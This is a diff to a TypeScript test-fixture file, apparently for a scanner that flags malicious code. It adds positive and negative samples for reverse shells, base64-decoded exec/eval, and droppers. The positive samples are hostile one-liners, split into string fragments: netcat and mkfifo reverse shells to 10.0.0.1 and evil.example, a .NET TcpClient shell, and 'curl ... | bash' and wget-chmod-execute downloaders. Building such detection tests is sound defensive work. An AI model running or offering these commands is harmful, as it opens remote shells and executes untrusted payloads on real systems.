@@ -24,8 +24,30 @@ const SAMPLES: Readonly<Record<string, Samples>> = {
     found: [
       ['nc', ' -e /bin/sh 10.0.0.1 4444'],
       ['ncat', ' 10.0.0.1 4444 --exec /bin/bash'],
+      ['/bin/nc', ' evil.example 4444 -e /bin/sh'],
     ],
     clean: [['nc -zv localhost 5432'], ['nc -l 8080 < index.html']],
+  },
+  'reverse-shell-dotnet': {
+    found: [
+      [
+        'var c = ',
+        'new TcpClient("10.0.0.1", 4444); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.RedirectStandardInput = true;',
+      ],
+    ],
+    clean: [['using var c = new TcpClient("db", 5432);'], ['local socket = require("socket")\nsocket.sleep(1)']],
+  },
+  'hidden-code-variable': {
+    found: [
+      ['code = base64.', 'b64decode(blob)\nexec(code)'],
+      ['const c = ', 'atob(blob)\neval(c)'],
+      ['$c = ', 'base64_decode($b); eval($c);'],
+    ],
+    clean: [
+      ['raw = base64.b64decode(blob)\nexec(other)'],
+      ['const c = JSON.parse(atob(blob))\nre.exec(c)'],
+      ['assert(decoded)'],
+    ],
   },
   'reverse-shell-fifo': {
     found: [['rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 |', ' nc 10.0.0.1 4444 > /tmp/f']],
@@ -139,7 +161,10 @@ const SAMPLES: Readonly<Record<string, Samples>> = {
     ],
   },
   'dropper-shell': {
-    found: [['wget http://10.0.0.1/x -O /tmp/.x; ', 'chmod +x /tmp/.x; /tmp/.x &']],
+    found: [
+      ['curl -s http://203.0.113.9', '/a.sh | bash'],
+      ['wget http://10.0.0.1/x -O /tmp/.x; ', 'chmod +x /tmp/.x; /tmp/.x &'],
+    ],
     clean: [
       [
         'curl -Lo ./kind https://kind.sigs.k8s.io/dl/v0.20.0/kind-linux-amd64\nchmod +x ./kind\nsudo mv ./kind /usr/local/bin/kind',
